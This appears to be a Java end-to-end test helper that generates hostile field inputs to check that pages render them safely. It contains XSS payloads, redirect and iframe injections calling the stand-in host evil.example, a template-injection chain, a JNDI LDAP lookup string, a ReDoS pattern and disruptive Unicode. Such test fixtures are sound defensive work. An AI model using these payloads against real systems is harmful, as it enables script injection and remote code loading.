package io.certloop.e2e;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** What somebody writes who wants pages to do something; each says in which field it stood. */
final class HostileText {

    /** As long as a description may be, in bytes of UTF-8. */
    private static final int LONGEST = 64 * 1024;

    private static final List<String> PIECES = List.of(
            "'\"><script>ran('FIELD')</script>",
            "<img src=//evil.example/x onerror=ran('FIELD')>",
            "<svg onload=ran('FIELD')><style>@import '//evil.example/y'</style></svg>",
            "</p></main></body></html><iframe src=//evil.example/z></iframe>",
            "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
            "<a href=javascript:ran('FIELD')>x</a>",
            "<form action=//evil.example/ hx-get=//evil.example/ hx-trigger=load sse-connect=//evil.example/>",
            "{shell.csrf}{#each}{{constructor.constructor('ran()')()}}${jndi:ldap://evil.example/}",
            "<!--]]>&#60;script&#62;",
            "\u0001\u0007\u001b[31m\u007f\u0085\u200b\ufeff\u2028\u2029",
            "证\u200d书\ufeff过期 \ud83d\udc68\u200d\ud83d\udc69 \u202e\u2066\ue000\ufffe\uffff ａ．ｃｏｍ");

    private HostileText() {}

    /** The worst in few characters; this much is shown as it was written. */
    static String brief(String field) {
        return "<script>ran('" + field + "')</script><img src=//evil/x onerror=ran('x')>";
    }

    static String in(String field) {
        return brief(field) + String.join(" ", PIECES).replace("FIELD", field);
    }

    /** Nearly the words that decide, as long as it may be. */
    static String longest(String field) {
        var text = new StringBuilder(in(field));
        while (bytes(text) < LONGEST - 600) {
            text.append("证书处理中没没没有有((((a+)+)+$ a.comcdn.b.com 域名 *.-_@<b ");
        }
        return text.toString();
    }

    private static int bytes(CharSequence text) {
        return text.toString().getBytes(StandardCharsets.UTF_8).length;
    }
}
